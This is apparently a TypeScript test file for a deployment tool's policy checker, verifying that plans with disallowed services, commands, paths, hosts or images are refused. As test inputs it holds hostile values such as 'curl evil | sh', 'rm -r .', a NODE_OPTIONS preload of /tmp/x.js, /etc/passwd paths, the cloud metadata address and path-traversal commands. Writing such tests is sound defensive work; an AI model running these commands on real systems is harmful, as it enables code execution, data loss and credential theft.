import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ShiplockError } from '../../src/errors.ts';
import type { AnalysisPlan, CutoverPlan, ImagePlan, Plan } from '../../src/plan/plan.ts';
import { matchesCommand, matchesHost, matchesName, matchesRepository } from '../../workers/policy/patterns.ts';
import {
  gateEnvironment,
  mappedAddress,
  type Policy,
  parsePolicy,
  policyDigest,
  policyRefusals,
} from '../../workers/policy.ts';
import { somePlan } from '../fixtures/some-plan.ts';

const ALLOWING = `
services: [credlink-*]
environments: [staging, production]
platforms: [local]
commands:
  - node server.ts
  - pnpm test **
  - [pnpm, audit, --json]
directories: [/srv/credlink]
hosts: ['prometheus.monitoring.svc:9090']
workloadEnvironment: [NODE_ENV]
images: { repositories: ['localhost:*/credlink/*'] }
`;
const policy = parsePolicy(ALLOWING, '/etc/shiplock/policy.yaml');

const CUTOVER: CutoverPlan = { preview: null, before: null, approval: null, pauseMs: null, after: null };

function refusalsWith(change: (plan: Plan) => Plan, added = ''): readonly string[] {
  return policyRefusals(change(somePlan()), parsePolicy(ALLOWING + added, '/etc/shiplock/policy.yaml'));
}

describe('a worker without a policy', () => {
  it('refuses every plan and says how to mend that', () => {
    const [reason, ...more] = policyRefusals(somePlan(), null);
    assert.match(reason ?? '', /no policy.*--policy FILE/);
    assert.deepEqual(more, []);
  });

  it('refuses the plan where its policy is empty, naming each thing that is missing', () => {
    const refusals = policyRefusals(somePlan(), parsePolicy('', 'p.yaml'));
    for (const field of [
      'services',
      'environments',
      'platforms',
      'commands',
      'directories',
      'hosts',
      'workloadEnvironment',
    ]) {
      assert.ok(
        refusals.some((reason) => reason.includes(`"${field}"`)),
        `${field} in ${refusals.join('\n')}`,
      );
    }
  });
});

describe('a policy', () => {
  it('carries the plan that stays within it', () => {
    assert.deepEqual(policyRefusals(somePlan(), policy), []);
  });

  const cases: [string, (plan: Plan) => Plan, RegExp][] = [
    ['another service', (plan) => ({ ...plan, service: 'billing' }), /service "billing".*"services"/],
    ['another environment', (plan) => ({ ...plan, environment: 'lab' }), /environment "lab"/],
    [
      'another workload command',
      (plan) => ({ ...plan, target: { ...plan.target, command: ['sh', '-c', 'curl evil | sh'] } }),
      /the workload: the command \["sh"/,
    ],
    [
      'a workload elsewhere',
      (plan) => ({ ...plan, target: { ...plan.target, directory: '/srv/credlink/../other' } }),
      /lies in none of "directories"/,
    ],
    [
      'a directory whose name only begins alike',
      (plan) => ({ ...plan, target: { ...plan.target, directory: '/srv/credlink-evil' } }),
      /lies in none/,
    ],
    [
      'a variable that changes what the workload loads',
      (plan) => ({ ...plan, target: { ...plan.target, environment: { NODE_OPTIONS: '--require /tmp/x.js' } } }),
      /variable NODE_OPTIONS/,
    ],
    [
      'another gate command',
      (plan) => ({
        ...plan,
        gates: plan.gates.map((gate) => ({ ...gate, command: ['rm', '-r', '.'] })) as Plan['gates'],
      }),
      /gate unit-tests: the command/,
    ],
    [
      'a configuration file elsewhere',
      (plan) => ({ ...plan, configuration: [{ kind: 'helm', file: '/etc/passwd', field: 'a' }] }),
      /\/etc\/passwd lies in none/,
    ],
    [
      'an image of another repository',
      (plan) => withImage(plan, { repository: 'evil.example/api' }),
      /evil\.example\/api/,
    ],
    [
      'an image that is built elsewhere',
      (plan) => withImage(plan, { build: { directory: '/root', file: 'Dockerfile', timeoutMs: 1 } }),
      /image's directory \/root lies in none of "directories"/,
    ],
    ['a metric host', (plan) => withAddress(plan, 'http://169.254.169.254/latest'), /matches nothing in "hosts"/],
    ['a metric port', (plan) => withAddress(plan, 'http://prometheus.monitoring.svc:22'), /matches nothing in "hosts"/],
    [
      'credentials in an address',
      (plan) => withAddress(plan, 'http://a:b@prometheus.monitoring.svc:9090'),
      /credentials/,
    ],
    ['a metric address of another kind', (plan) => withAddress(plan, 'file:///etc/passwd'), /no http\(s\) address/],
  ];
  for (const [what, change, reason] of cases) {
    it(`refuses ${what}`, () => {
      const refusals = refusalsWith(change);
      assert.equal(refusals.length, 1, refusals.join('\n'));
      assert.match(refusals[0] ?? '', reason);
    });
  }

  it('names every reason at once', () => {
    assert.equal(refusalsWith((plan) => ({ ...plan, service: 'x', environment: 'y' })).length, 2);
  });

  it('allows the images that it names', () => {
    const build = { directory: '/srv/credlink/api', file: 'Dockerfile', timeoutMs: 1 };
    assert.deepEqual(
      refusalsWith((plan) => withImage(plan, { build })),
      [],
    );
  });

  it('needs no host for an address that it maps itself', () => {
    const elsewhere = (plan: Plan) => withAddress(plan, 'http://elsewhere:1');
    assert.deepEqual(refusalsWith(elsewhere, "prometheus: { 'http://elsewhere:1': 'http://127.0.0.1:9090' }"), []);
    assert.deepEqual(refusalsWith(elsewhere, "prometheus: { '*': embedded }"), []);
  });

  it('may ask for a level of proof that the plan must not undercut', () => {
    const asks = (requires: 'identity' | 'principal') => (plan: Plan) => ({
      ...plan,
      promotion: { monitor: null, approval: { deadlineMs: 1, requires, quorum: 1, notStarter: false } },
    });
    const added = 'approvals: { requires: { production: principal } }';
    assert.match(
      refusalsWith(asks('identity'), added)[0] ?? '',
      /must require "principal", the plan asks for "identity"/,
    );
    assert.deepEqual(refusalsWith(asks('principal'), added), []);
  });

  it('may ask for a person where the plan promotes automatically', () => {
    assert.match(
      refusalsWith((plan) => plan, 'approvals: { mandatory: [production] }')[0] ?? '',
      /a person must approve/,
    );
    assert.deepEqual(
      refusalsWith((plan) => plan, 'approvals: { mandatory: [staging] }'),
      [],
    );
  });

  it('is content where it is the cutover that asks', () => {
    const approval = { deadlineMs: 1_000, requires: 'anonymous', quorum: 1, notStarter: false } as const;
    const asks = (plan: Plan): Plan => ({ ...plan, cutover: { ...CUTOVER, approval } });
    assert.deepEqual(refusalsWith(asks, 'approvals: { mandatory: [production] }'), []);
    assert.match(
      refusalsWith(asks, 'approvals: { requires: { production: signed } }')[0] ?? '',
      /must require "signed"/,
    );
  });
});

describe('the metric hosts of a plan', () => {
  const foreign = ({ canary }: Plan): AnalysisPlan => {
    assert.ok(canary.background);
    const { analysis } = canary.background;
    const address = 'http://elsewhere.example:9090';
    return {
      ...analysis,
      metrics: analysis.metrics.map((metric) => ({ ...metric, provider: { ...metric.provider, address } })),
    };
  };
  const places: readonly (readonly [string, (plan: Plan, analysis: AnalysisPlan) => Partial<Plan>])[] = [
    ['before a cutover', (_, before) => ({ cutover: { ...CUTOVER, before } })],
    ['after a cutover', (_, after) => ({ cutover: { ...CUTOVER, after } })],
    [
      'between the steps of a flag',
      (_, analysis) => ({
        flags: {
          ramps: [
            {
              key: 'new',
              variant: 'on',
              steps: [
                { kind: 'setPercent', percent: 1 },
                { kind: 'analysis', analysis },
              ],
            },
          ],
          onFailure: 'phase',
        },
      }),
    ],
    ['in the ramp', (plan, analysis) => ({ canary: { ...plan.canary, steps: [{ kind: 'analysis', analysis }] } })],
  ];
  for (const [place, change] of places) {
    it(`are looked at ${place}`, () => {
      const refusals = refusalsWith((plan) => ({ ...plan, ...change(plan, foreign(plan)) }));
      assert.match(refusals[0] ?? '', /elsewhere\.example:9090 matches nothing in "hosts"/);
    });
  }
});

describe('patterns of a policy', () => {
  it('match names as a whole', () => {
    assert.ok(matchesName('credlink-api', 'credlink-*'));
    assert.ok(!matchesName('my-credlink-api', 'credlink-*'));
    assert.ok(!matchesName('credlinkXapi', 'credlink.api'));
  });

  const commands: [string[], string[], boolean][] = [
    [['pnpm', 'test'], ['pnpm', 'test'], true],
    [['pnpm', 'test', '--x'], ['pnpm', 'test'], false],
    [['pnpm', 'test', '--x'], ['pnpm', 'test', '**'], true],
    [['pnpm', 'test'], ['pnpm', 'test', '**'], true],
    [['pnpm'], ['pnpm', 'test', '**'], false],
    [['pnpm', 'test; rm'], ['pnpm', 'test'], false],
    [['/srv/bin/x'], ['/srv/bin/*'], true],
    [['/srv/bin/../../bin/sh'], ['/srv/bin/*'], false],
    [['node', '--v={{version}}'], ['node', '--v=*'], true],
    [['node'], ['*'], true],
    [['/bin/sh'], ['*'], false],
    [['a+b'], ['a+b'], true],
    [['aab'], ['a+b'], false],
  ];
  for (const [command, rule, expected] of commands) {
    it(`${JSON.stringify(rule)} ${expected ? 'allows' : 'does not allow'} ${JSON.stringify(command)}`, () => {
      assert.equal(matchesCommand(command, rule), expected);
    });
  }

  it('match hosts label by label, and ports where they name one', () => {
    assert.ok(matchesHost('prometheus.svc', '9090', '*.svc'));
    assert.ok(matchesHost('Prometheus.svc', '9090', 'prometheus.svc:9090'));
    assert.ok(!matchesHost('prometheus.svc', '9091', 'prometheus.svc:9090'));
    assert.ok(!matchesHost('a.b.svc', '80', '*.svc'));
    assert.ok(!matchesHost('svc.evil', '80', 'svc'));
    assert.ok(matchesHost('[::1]', '9090', '[::1]:9090'));
  });

  it('match repositories piece by piece', () => {
    assert.ok(matchesRepository('localhost:5000/credlink/api', 'localhost:*/credlink/*'));
    assert.ok(!matchesRepository('localhost:5000/credlink/api/more', 'localhost:*/credlink/*'));
    assert.ok(!matchesRepository('localhost:5000/evil/credlink/api', 'localhost:*/credlink/*'));
    assert.ok(!matchesRepository('evil.example/credlink/api', 'localhost:*/credlink/*'));
  });
});

describe('a policy file', () => {
  it('takes relative directories from where it lies', () => {
    assert.deepEqual(parsePolicy('directories: [., ../app]', '/srv/a/policy.yaml').directories, ['/srv/a', '/srv/app']);
  });

  it('that is wrong is refused with every error at its place', () => {
    const text = "services: a\nenvironmen: [x]\ncommands: ['**']\nenvironment: [TEMPORAL_API_KEY]\n";
    assert.throws(
      () => parsePolicy(text, 'p.yaml'),
      (error: ShiplockError) => {
        assert.equal(error.code, 'SHIPLOCK_POLICY_INVALID');
        const lines = error.message.split('\n');
        assert.deepEqual(
          lines.map((line) => /^p\.yaml:\d+/.exec(line)?.[0]),
          ['p.yaml:1', 'p.yaml:2', 'p.yaml:3', 'p.yaml:4'],
        );
        return error instanceof ShiplockError;
      },
    );
  });

  it('that is no YAML is refused with its place', () => {
    assert.throws(() => parsePolicy('services: [a', 'p.yaml'), /p\.yaml:1:\d+: /);
  });

  it('has a digest that does not depend on the order of its fields', () => {
    const other = parsePolicy('environments: [b]\nservices: [a]', 'p.yaml');
    assert.equal(policyDigest(parsePolicy('services: [a]\nenvironments: [b]', 'p.yaml')), policyDigest(other));
    assert.notEqual(policyDigest(other), policyDigest(null));
  });
});

describe('what a policy lets be seen', () => {
  it('gives gates the variables it names, and never those of Temporal', () => {
    const own = { PATH: '/bin', TEMPORAL_API_KEY: 'k', temporal_tls: 'k', OTHER: 'o' };
    assert.deepEqual(gateEnvironment(own, policy), { PATH: '/bin' });
    const all = parsePolicy("environment: ['*']", 'p.yaml');
    assert.deepEqual(gateEnvironment(own, all), { PATH: '/bin', OTHER: 'o' });
    assert.deepEqual(gateEnvironment(own, null), {});
  });

  it('maps an address by itself before all the others', () => {
    const mapping = parsePolicy("prometheus: { '*': embedded, 'http://a:1': 'http://127.0.0.1:2' }", 'p.yaml');
    const mapped = (address: string, by: Policy) =>
      mappedAddress({ kind: 'prometheus', address, query: 'up', timeoutMs: 1 }, by, 'production');
    assert.equal(mapped('http://a:1', mapping), 'http://127.0.0.1:2');
    assert.equal(mapped('http://b:1', mapping), 'embedded');
    assert.equal(mapped('http://b:1', policy), null);
  });
});

function withImage(plan: Plan, change: Partial<ImagePlan>): Plan {
  const image = { repository: 'localhost:5000/credlink/api', build: null, digest: null, insecure: true };
  return { ...plan, image: { ...image, ...change } };
}

function withAddress(plan: Plan, address: string): Plan {
  const success = { kind: 'prometheus', address, query: 'up', timeoutMs: 1000 } as const;
  const bounds = { success: 0.99, p95Seconds: 0.5 };
  const monitor = { success, p95Seconds: success, healthy: bounds, unhealthy: bounds, intervalMs: 5000, attempts: 60 };
  return { ...plan, promotion: { ...plan.promotion, monitor } };
}
